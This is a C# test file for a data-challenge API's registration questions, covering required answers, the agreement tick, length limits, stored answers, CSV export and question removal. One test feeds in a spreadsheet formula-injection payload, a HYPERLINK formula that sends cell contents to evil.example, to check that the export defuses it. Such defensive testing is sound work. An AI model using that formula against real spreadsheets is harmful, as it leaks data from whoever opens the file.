using System.Net;
using System.Net.Http.Json;
using System.Text;
using DataChallenge.Api.Tests.Participation;
using DataChallenge.Testing;
using Microsoft.VisualBasic.FileIO;

namespace DataChallenge.Api.Tests.Registration;

/// <summary>Organisers ask questions at registration; answers are checked, kept with the registration and exported.</summary>
public sealed class RegistrationQuestionTests : IAsyncLifetime
{
    private readonly ServerFactory _server = new();
    private ApiSession _organiser = null!;
    private ApiSession _competitor = null!;
    private string _slug = "";
    private Guid _affiliation;
    private Guid _country;
    private Guid _motivation;
    private Guid _agreement;

    public async ValueTask InitializeAsync()
    {
        _organiser = await ApiSession.RegisterAsync(_server.CreateClient());
        _slug = await _organiser.CreateChallengeAsync();
        _affiliation = await _organiser.AskAsync(_slug, "affiliation", "Affiliation", required: true);
        _country = await _organiser.AskAsync(_slug, "country", "Country");
        _motivation = await _organiser.AskAsync(_slug, "text", "Why do you take part?");
        _agreement = await _organiser.AskAsync(_slug, "agreement", "I will not try to re-identify patients.");
        _competitor = await ApiSession.RegisterAsync(_server.CreateClient());
    }

    public ValueTask DisposeAsync() => _server.DisposeAsync();

    [Fact]
    public async Task Join_Answers400NamingTheQuestion_WhenARequiredAnswerIsMissing()
    {
        var response = await _competitor.JoinAnsweringAsync(_slug, new() { [_agreement] = "yes" });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.JsonAsync();
        Assert.Equal("Answer the question 'Affiliation'.", problem.GetProperty("title").GetString());
        Assert.Equal(_affiliation, problem.GetProperty("questionId").GetGuid());
        Assert.Equal(0, (await (await _organiser.Client.GetAsync($"/api/challenges/{_slug}/participants")).JsonAsync()).GetArrayLength());
    }

    [Fact]
    public async Task Join_Answers400_WhenTheAgreementIsNotTicked()
    {
        var unticked = await _competitor.JoinAnsweringAsync(_slug, new() { [_affiliation] = "Hospital", [_agreement] = "no" });

        Assert.Equal(HttpStatusCode.BadRequest, unticked.StatusCode);
        Assert.Equal(_agreement, (await unticked.JsonAsync()).GetProperty("questionId").GetGuid());
    }

    [Fact]
    public async Task Join_Answers400_WhenAnAnswerIsTooLong()
    {
        var response = await _competitor.JoinAnsweringAsync(_slug, new() { [_affiliation] = "Hospital", [_country] = new string('x', 101), [_agreement] = "yes" });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.JsonAsync();
        Assert.Equal(_country, problem.GetProperty("questionId").GetGuid());
        Assert.Contains("at most 100 characters", problem.GetProperty("title").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Answers_AreKeptWithTheRegistration_WhenTheJoinSucceeds()
    {
        await ApiSession.EnsureAsync(await _competitor.JoinAnsweringAsync(_slug,
            new() { [_affiliation] = " Hôpital Nord ", [_country] = "FR", [_agreement] = "true" }), "join");

        var answers = await (await _organiser.Client.GetAsync($"/api/challenges/{_slug}/registration-answers")).JsonAsync();

        var mine = Assert.Single(answers.EnumerateArray());
        Assert.Equal(_competitor.Email, mine.GetProperty("email").GetString());
        var byQuestion = mine.GetProperty("answers");
        Assert.Equal("Hôpital Nord", byQuestion.GetProperty(_affiliation.ToString()).GetString());
        Assert.Equal("FR", byQuestion.GetProperty(_country.ToString()).GetString());
        Assert.Equal("yes", byQuestion.GetProperty(_agreement.ToString()).GetString());
        Assert.False(byQuestion.TryGetProperty(_motivation.ToString(), out _));
    }

    [Fact]
    public async Task AnswersCsv_ParsesBackToTheAnswers_WhenTheyHoldCommasQuotesAndNewLines()
    {
        const string motivation = "Two lines, \"quoted\"\nand a comma";
        await ApiSession.EnsureAsync(await _competitor.JoinAnsweringAsync(_slug,
            new() { [_affiliation] = "Lab, Inc.", [_motivation] = motivation, [_agreement] = "yes" }), "join");

        var csv = await _organiser.Client.GetAsync($"/api/challenges/{_slug}/registration-answers.csv");

        Assert.Equal("text/csv", csv.Content.Headers.ContentType?.MediaType);
        var rows = ParseCsv(await csv.Content.ReadAsStringAsync());
        Assert.Equal(["user_id", "email", "team", "status", "joined_at", "Affiliation", "Country", "Why do you take part?", "I will not try to re-identify patients."],
            rows[0]);
        var row = Assert.Single(rows.Skip(1));
        Assert.Equal(_competitor.Email, row[1]);
        Assert.Equal(["Lab, Inc.", "", motivation, "yes"], row[5..]);
    }

    [Fact]
    public async Task AnswersCsv_DefusesFormulas_WhenAParticipantAnswersWithOne()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        await ApiSession.EnsureAsync(await _competitor.JoinAnsweringAsync(_slug, new() { [_affiliation] = formula, [_agreement] = "yes" }), "join");

        var rows = ParseCsv(await _organiser.Client.GetStringAsync($"/api/challenges/{_slug}/registration-answers.csv"));

        Assert.Equal("'" + formula, rows[1][5]);
    }

    [Fact]
    public async Task Questions_AreRemovedWithTheirAnswers_WhenAnOrganiserRemovesOne()
    {
        await ApiSession.EnsureAsync(await _competitor.JoinAnsweringAsync(_slug, new() { [_affiliation] = "Hospital", [_agreement] = "yes" }), "join");

        var removed = await _organiser.Client.DeleteAsync($"/api/challenges/{_slug}/registration-questions/{_affiliation}");
        var questions = await (await _organiser.Client.GetAsync($"/api/challenges/{_slug}/registration-questions")).JsonAsync();
        var answers = await (await _organiser.Client.GetAsync($"/api/challenges/{_slug}/registration-answers")).JsonAsync();

        Assert.Equal(HttpStatusCode.NoContent, removed.StatusCode);
        Assert.Equal(3, questions.GetArrayLength());
        Assert.False(answers[0].GetProperty("answers").TryGetProperty(_affiliation.ToString(), out _));
    }

    [Fact]
    public async Task AddQuestion_Answers400_WhenTheKindIsUnknown()
    {
        var response = await _organiser.Client.PostAsJsonAsync($"/api/challenges/{_slug}/registration-questions", new { kind = "age", prompt = "Age?" });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    private static List<string[]> ParseCsv(string text)
    {
        using var parser = new TextFieldParser(new StringReader(text)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        parser.SetDelimiters(",");
        var rows = new List<string[]>();
        while (!parser.EndOfData) rows.Add(parser.ReadFields()!);
        return rows;
    }
}
